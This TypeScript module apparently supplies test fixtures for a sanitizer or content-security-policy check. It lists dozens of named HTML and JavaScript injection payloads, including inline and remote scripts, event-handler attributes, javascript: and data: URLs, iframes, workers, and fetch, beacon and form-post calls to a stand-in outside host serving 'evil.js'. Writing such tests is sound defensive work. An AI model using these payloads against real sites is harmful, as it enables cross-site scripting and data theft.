/** One way to get code to run in the page by what ends up in its document: markup, or a script of its own after `js:`. */
export type Injection = readonly [name: string, inject: string];

/** What would betray code that ran. */
const go = `window.ranCode=true`;

const events = ['onload', 'onerror', 'onclick', 'onfocus', 'onpointerenter', 'onanimationstart', 'ontoggle'];

export function injections(elsewhere: string): readonly Injection[] {
  return [...codeInMarkup(elsewhere), ...frames(elsewhere), ...loads(elsewhere), ...scripts(elsewhere)];
}

function html(markup: string): string {
  return `html:${markup}`;
}

function codeInMarkup(elsewhere: string): readonly Injection[] {
  const remote = `${elsewhere}/evil.js`;
  const data = `data:text/javascript,${go}`;
  return [
    ['inline script', html(`<script>${go}</script>`)],
    ['remote script', html(`<script src="${remote}"></script>`)],
    ['data script', html(`<script src="${data}"></script>`)],
    ['script module', html(`<script type="module">${go}</script>`)],
    ['remote module', html(`<script type="module" src="${remote}"></script>`)],
    ['import map', html(`<script type="importmap">{"imports":{"x":"${remote}"}}</script>`)],
    [
      'speculation rules',
      html(`<script type="speculationrules">{"prefetch":[{"urls":["${remote}"]}]}</script>`),
    ],
    ...events.map(
      (event) => [`${event} of an image`, html(`<img src="x:" ${event}="${go}" tabindex=0>`)] as const,
    ),
    ...events.map(
      (event) =>
        [`${event} of a drawing`, html(`<svg ${event}="${go}"><g ${event}="${go}"/></svg>`)] as const,
    ),
    ['script in a drawing', html(`<svg><script>${go}</script></svg>`)],
    ['href of a drawing', html(`<svg><script href="${remote}"/></svg>`)],
    [
      'animated href',
      html(`<svg><a><animate attributeName="href" values="javascript:${go}"/><text>x</text></a></svg>`),
    ],
    ['a link with a script', html(`<a id="press" href="javascript:${go}">x</a>`)],
    ['a link of data', html(`<a id="press" href="data:text/html,<script>${go}</script>">x</a>`)],
    ['a form with a script', html(`<form action="javascript:${go}"><button id="press">x</button></form>`)],
    [
      'a button with a script',
      html(`<form><button id="press" formaction="javascript:${go}">x</button></form>`),
    ],
    [
      'a form to elsewhere',
      html(`<form action="${elsewhere}/taken" method="post"><button id="press">x</button></form>`),
    ],
  ];
}

function frames(elsewhere: string): readonly Injection[] {
  const remote = `${elsewhere}/evil.js`;
  return [
    ['frame of a script', html(`<iframe src="javascript:parent.${go}"></iframe>`)],
    ['frame of data', html(`<iframe src="data:text/html,<script>parent.${go}</script>"></iframe>`)],
    ['frame with a document', html(`<iframe srcdoc="<script>parent.${go}</script>"></iframe>`)],
    ['remote frame', html(`<iframe src="${elsewhere}/frame"></iframe>`)],
    ['object', html(`<object data="${remote}"></object>`)],
    ['object of data', html(`<object data="data:text/html,<script>${go}</script>"></object>`)],
    ['embed', html(`<embed src="${elsewhere}/frame">`)],
    ['base', html(`<base href="${elsewhere}/">`)],
    ['refresh', html(`<meta http-equiv="refresh" content="0;url=javascript:${go}">`)],
    [
      'policy of its own',
      html(
        `<meta http-equiv="content-security-policy" content="script-src *"><script src="${remote}"></script>`,
      ),
    ],
  ];
}

function loads(elsewhere: string): readonly Injection[] {
  const remote = `${elsewhere}/evil.js`;
  return [
    [
      'style element',
      html(`<style>@import url(${elsewhere}/evil.css);body{background:url(${elsewhere}/bg)}</style>`),
    ],
    ['style attribute', html(`<p style="background:url(${elsewhere}/attribute)">x</p>`)],
    ['style sheet', html(`<link rel="stylesheet" href="${elsewhere}/evil.css">`)],
    ['preload', html(`<link rel="preload" as="script" href="${remote}">`)],
    ['prefetch', html(`<link rel="prefetch" href="${elsewhere}/prefetch">`)],
    ['manifest', html(`<link rel="manifest" href="${elsewhere}/manifest">`)],
    ['remote image', html(`<img src="${elsewhere}/pixel">`)],
    ['image set', html(`<img srcset="${elsewhere}/pixel 1x">`)],
    ['remote video', html(`<video src="${elsewhere}/video" autoplay></video>`)],
    ['remote sound', html(`<audio src="${elsewhere}/sound" autoplay></audio>`)],
  ];
}

function scripts(elsewhere: string): readonly Injection[] {
  const remote = `${elsewhere}/evil.js`;
  const data = `data:text/javascript,${go}`;
  return [
    ['eval', `js:(0, eval)(${JSON.stringify(go)})`],
    ['Function', `js:new Function(${JSON.stringify(go)})()`],
    ['timer of text', `js:setTimeout(${JSON.stringify(go)}, 0)`],
    ['interval of text', `js:setInterval(${JSON.stringify(go)}, 5)`],
    ['import of data', `js:import(${JSON.stringify(data)})`],
    ['import of elsewhere', `js:import(${JSON.stringify(remote)})`],
    ['worker of elsewhere', `js:new Worker(${JSON.stringify(remote)})`],
    ['worker of data', `js:new Worker(${JSON.stringify(data)})`],
    ['worker of a blob', `js:new Worker(URL.createObjectURL(new Blob(["fetch('${elsewhere}/blob')"])))`],
    ['shared worker of data', `js:new SharedWorker(${JSON.stringify(data)})`],
    ['service worker of elsewhere', `js:navigator.serviceWorker.register(${JSON.stringify(remote)})`],
    ['request elsewhere', `js:fetch('${elsewhere}/fetch')`],
    ['blind request elsewhere', `js:fetch('${elsewhere}/blind', { mode: 'no-cors' })`],
    ['beacon elsewhere', `js:navigator.sendBeacon('${elsewhere}/beacon', 'x')`],
    ['event stream elsewhere', `js:new EventSource('${elsewhere}/events')`],
    ['socket elsewhere', `js:new WebSocket('${elsewhere.replace('http', 'ws')}/socket')`],
    [
      'old request elsewhere',
      `js:(() => { const r = new XMLHttpRequest(); r.open('GET', '${elsewhere}/xhr'); r.send(); })()`,
    ],
    ['markup by a sink', `js:(() => { document.body.innerHTML += '<img src=x: onerror="${go}">'; })()`],
    ['document.write', `js:document.write('<script>${go}<\\/script>')`],
    [
      'a script element with text',
      `js:(() => { const s = document.createElement('script'); s.text = '${go}'; document.body.append(s); })()`,
    ],
    [
      'a script element from elsewhere',
      `js:(() => { const s = document.createElement('script'); s.setAttribute('src', '${remote}'); document.body.append(s); })()`,
    ],
  ];
}
